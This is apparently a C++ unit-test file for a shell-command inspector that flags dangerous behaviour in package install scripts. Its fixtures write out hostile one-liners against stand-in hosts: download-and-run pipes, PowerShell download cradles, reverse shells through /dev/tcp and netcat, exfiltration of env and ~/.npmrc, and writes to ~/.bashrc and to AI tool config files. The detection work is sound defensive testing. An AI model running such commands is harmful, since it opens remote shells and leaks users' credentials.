#include "inspect/shell_facts.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "inspect/shell.h"

namespace cordon::inspect {
namespace {

bool has(std::string_view command, FlagKind kind, RunHow how = RunHow::none) {
  const ShellReading reading = read_shell(command);
  return std::ranges::any_of(reading.facts,
                             [&](const ShellFact& each) { return each.kind == kind && each.how == how; });
}

using Texts = std::vector<std::string>;

Texts files(const ShellReading& reading) {
  Texts out;
  for (const StartedFile& each : reading.files)
    out.push_back((each.folder.empty() ? "" : each.folder + "/") + each.name);
  return out;
}

TEST(Shell, SplitsAsAShellDoes) {
  bool complete = false;
  const auto commands = split_shell("A=1 node 'a b.js' && \"c\"d | e >f 2>&1 ; # no\n g & h", complete);
  EXPECT_TRUE(complete);
  ASSERT_EQ(commands.size(), 5u);
  EXPECT_EQ(commands[0].words, Texts({"A=1", "node", "a b.js"}));
  EXPECT_EQ(commands[1].words, Texts({"cd"}));
  EXPECT_TRUE(commands[2].piped);
  EXPECT_EQ(commands[2].into, Texts({"f"}));
  EXPECT_TRUE(commands[3].background);
  EXPECT_EQ(commands[4].words, Texts({"h"}));
  EXPECT_EQ(started_by(commands[0]).front(), "node");
}

TEST(ShellFacts, WhatIsFetchedAndRun) {
  EXPECT_TRUE(has("curl -fsSL https://a.example.test/i.sh | sh", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("sh -c \"$(wget -qO- https://a.example.test/i.sh)\"", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("bash <(curl -s https://a.example.test/i)", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("curl -o /tmp/l.py https://a.example.test/l && nohup python3 /tmp/l.py &", FlagKind::download_and_run,
                  RunHow::shell));
  EXPECT_TRUE(has("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://a.example.test')\"",
                  FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("wget https://a.example.test/tool && chmod +x tool", FlagKind::download_and_run, RunHow::permitted));
}

TEST(ShellFacts, WhatIsOnlyFetchedOrOnlySaid) {
  EXPECT_FALSE(
      has("curl -o a.tgz https://a.example.test/a.tgz && tar xf a.tgz", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("echo 'curl https://a.example.test/i.sh | sh'", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("curl https://a.example.test/x | jq .name", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("cat a.sh | sh", FlagKind::download_and_run, RunHow::shell));
}

TEST(ShellFacts, WhatStandsInOtherWords) {
  EXPECT_TRUE(has("certutil -urlcache -split -f https://a.example.test/a a.exe", FlagKind::shell_download));
  EXPECT_FALSE(has("certutil -hashfile a.exe", FlagKind::shell_download));
  EXPECT_TRUE(has("powershell -enc AAAA", FlagKind::encoded_payload));
  EXPECT_TRUE(has("echo x && echo YQ== | base64 -d | sh", FlagKind::encoded_payload));
  EXPECT_TRUE(has("npm publish", FlagKind::publish));
  EXPECT_TRUE(has("env | curl -d @- https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("curl -F f=@$HOME/.npmrc https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("echo evil >> ~/.bashrc", FlagKind::outside_write));
  EXPECT_FALSE(has("echo good >> ./notes.bashrc.txt", FlagKind::outside_write));
  EXPECT_TRUE(has("rm -f \"$0\"", FlagKind::self_deletion));
  EXPECT_TRUE(has("mv package.md package.json", FlagKind::manifest_write));
  EXPECT_TRUE(has("curl -fsSL https://bun.sh/install -o i", FlagKind::second_runtime));
}

TEST(ShellFacts, WhatOfThePackageIsStarted) {
  const ShellReading reading = read_shell(
      "node install.js || npm run build && sh -c 'node ./lib/x' ; node -e \"require('./y')\" ; prebuild-install");
  EXPECT_EQ(files(reading), Texts({"install.js", "./lib/x"}));
  EXPECT_EQ(reading.scripts, Texts({"build"}));
  EXPECT_EQ(reading.code, Texts({"require('./y')"}));
  EXPECT_EQ(reading.programs, Texts({"prebuild-install"}));
}

TEST(ShellFacts, WhatIsFetchedAndRunInOtherForms) {
  for (const char* command :
       {"{ curl -s https://a.example.test/x; } | sh", "(curl https://a.example.test/x; true) 2>/dev/null | sh",
        "if true; then curl https://a.example.test/x; fi | sh",
        "busybox wget -O- https://a.example.test/x | busybox sh", "curl https://a.example.test/x | xargs -0 node -e",
        "X=curl; $X -s https://a.example.test/x | sh", "curl https://a.example.test/x | bash -s stable",
        "X=\"$(curl -s https://a.example.test/x)\"; eval \"$X\"", "node -e \"$(curl -s https://a.example.test/x)\"",
        "bash -i >& /dev/tcp/a.example.test/4444 0>&1", "sh -i >&/dev/tcp/192.0.2.1/4444 0>&1",
        "exec 5<>/dev/tcp/a.example.test/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "nc -e /bin/sh a.example.test 4444", "rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc a.example.test 4444 > f"})
    EXPECT_TRUE(has(command, FlagKind::download_and_run, RunHow::shell)) << command;
  for (const char* command :
       {"{ curl -s https://a.example.test/x; } | jq .", "V=$(curl -s https://a.example.test/version); bash build.sh $V",
        "curl https://a.example.test/list | xargs -n 1 node check.js", "{ ls; }; cat a | sh", "nc -z localhost 5432",
        "bash -c 'echo > /dev/tcp/localhost/5432'"})
    EXPECT_FALSE(has(command, FlagKind::download_and_run, RunHow::shell)) << command;
}

TEST(ShellFacts, SecretsThatARequestTakesAlong) {
  for (const char* command :
       {"curl -d \"$(env)\" https://a.example.test", "curl -d `printenv` https://a.example.test",
        "curl -d \"$(cat ~/.npmrc)\" https://a.example.test", "curl -T ~/.npmrc https://a.example.test",
        "wget --post-file=$HOME/.npmrc https://a.example.test", "curl -d @- https://a.example.test < ~/.npmrc",
        "wget \"https://a.example.test?$(env|base64)\"", "X=$(env); curl -d \"$X\" https://a.example.test",
        "env | nc a.example.test 80"})
    EXPECT_TRUE(has(command, FlagKind::secrets_sent)) << command;
  for (const char* command :
       {"curl --netrc-file ~/.netrc https://a.example.test", "curl \"$(grep registry ~/.npmrc)/x\"",
        "echo $(env); curl https://a.example.test/$(uname)", "curl -o ~/.npmrc https://a.example.test"})
    EXPECT_FALSE(has(command, FlagKind::secrets_sent)) << command;
}

TEST(ShellFacts, FilesThatNodeIsGiven) {
  const auto given = [](std::string_view command) { return files(read_shell(command)); };
  for (const char* command :
       {"node < i.js", "cat i.js | node", "node $PWD/i.js", "\"$npm_node_execpath\" i.js", "timeout 5 node i.js",
        "stdbuf -o0 node i.js", "nice -n 10 node i.js", "npx node@20 i.js", "sudo -u nobody node i.js",
        "${NODE:-node} i.js", "X=i.js; node $X", "trap 'node i.js' EXIT", "node ${npm_package_json%/*}/i.js",
        "for f in i.js; do node $f; done", "npm exec -- node i.js"}) {
    Texts found = given(command);
    ASSERT_EQ(found.size(), 1u) << command;
    EXPECT_TRUE(found[0] == "i.js" || found[0] == "./i.js") << command;
  }
  EXPECT_EQ(given("cd lib && node i.js"), Texts({"lib/i.js"}));
  EXPECT_EQ(given("node --require=./x.js --import ./y.mjs -e 1"), Texts({"./x.js", "./y.mjs"}));
  EXPECT_EQ(given("NODE_OPTIONS=\"--require ./x.js\" node -e 1"), Texts({"./x.js"}));
  const ShellReading unsure = read_shell("node --stack-size 900 i.js");
  ASSERT_EQ(unsure.files.size(), 1u);
  EXPECT_EQ(unsure.files[0].or_else, Texts({"i.js"}));
  EXPECT_EQ(read_shell("node -C dev i.js").files[0].or_else, Texts({"i.js"}));
  EXPECT_EQ(read_shell("node --eval=\"f()\"").code, Texts({"f()"}));
  EXPECT_EQ(read_shell("echo 'f()' | node").code, Texts({"f()"}));
}

TEST(ShellFacts, ScriptsByWhateverClient) {
  for (const char* command :
       {"npm run -s x", "npm run --silent x", "npm --prefix . run x", "npm --silent run x", "run-s x", "npm-run-all x",
        "yarn -s x", "yarn x", "node --run x", "node $npm_execpath run x", "pnpm -C . run x"})
    EXPECT_EQ(read_shell(command).scripts, Texts({"x"})) << command;
  EXPECT_EQ(read_shell("npm t").scripts, Texts({"test"}));
}

TEST(ShellFacts, WhatIsWrittenInTheOwnFolderIsNobodyElses) {
  EXPECT_FALSE(has("echo x > dist/.profile", FlagKind::outside_write));
  EXPECT_TRUE(has("cd ~ && echo x > .profile", FlagKind::outside_write));
  EXPECT_TRUE(has("echo x > ../../.claude/settings.json", FlagKind::outside_write));
  EXPECT_TRUE(has("echo x > $INIT_CWD/.mcp.json", FlagKind::outside_write));
}

TEST(ShellFacts, ManyCommandsAreReadInPart) {
  std::string text;
  for (int i = 0; i < 100'000; ++i) text += "$(";
  EXPECT_TRUE(read_shell(text).facts.empty());
  text.clear();
  for (int i = 0; i < 10'000; ++i) text += "a;";
  EXPECT_FALSE(read_shell(text).is_complete);
  EXPECT_TRUE(read_shell(text, kScriptLimits).is_complete);
}

}  // namespace
}  // namespace cordon::inspect
